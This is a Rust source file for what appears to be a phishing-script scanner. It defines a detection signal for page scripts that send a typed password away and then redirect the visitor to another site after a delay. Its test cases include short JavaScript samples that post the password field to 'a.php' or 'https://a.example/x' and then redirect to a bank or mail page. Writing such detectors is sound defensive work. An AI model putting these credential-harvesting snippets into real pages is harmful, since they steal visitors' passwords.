//! `secret-sent-then-away`.

use crate::facts::Atom;
use crate::signals::answered::requests;
use crate::signals::near::Near;
use crate::signals::owners::owner_used;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-sent-then-away",
    description: "The script sends a typed password or code and sends the visitor to another site after a delay.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SecretField, Atom::SecretWord]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[Atom::Post, Atom::PostMethod, Atom::Beacon]),
        one(&[Atom::SentAway]),
        one(&[Atom::Delay, Atom::TriesCounted, Atom::Refusal]),
    ],
    within: 300,
    only_if: Some(of_two_owners),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "$('#f').submit(function(e){e.preventDefault();$.post('a.php',{u:$('#u').val(),p:$('#password').val()});setTimeout(function(){location.href='https://mail.example/inbox'},3000)})",
            "f.onsubmit=e=>{fetch('https://a.example/x',{method:'POST',body:JSON.stringify({p:f.password.value})});fetch('https://bank.example/logo');setTimeout(()=>{location.href='https://www.bank.example/'},900)}",
        ],
        without: &[
            "$('#f').submit(function(e){e.preventDefault();$.post('a.php',{u:$('#u').val(),p:$('#password').val()},function(){location.href='/home'})})",
            r#"f.onsubmit=async e=>{e.preventDefault();const r=await fetch('https://api.leaf.example/sessions',{method:'POST',body:JSON.stringify({mail:f.mail.value,password:f.password.value})});if(!r.ok)return warn(r);setTimeout(()=>{location.href='https://app.leaf.example/start'},900)}"#,
        ],
    },
};

/// Whether the visitor does not just go from one host of a site to another: `https://api.shop.example`, `https://www.shop.example`.
fn of_two_owners(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    let away = near.places().filter(|at| near.has_fact_in(*at..at + 1, &[Atom::SentAway]));
    let sent = || {
        near.places()
            .filter(|at| near.word(*at) == "open" && near.is(at + 1, b'('))
            .chain(requests(near).filter(|at| near.word(*at) != "send"))
    };
    away.map(|at| owner_used(near, at)).any(|away| {
        let mut sent = sent().peekable();
        away.is_none() || sent.peek().is_none() || sent.any(|at| owner_used(near, at) != away)
    })
}
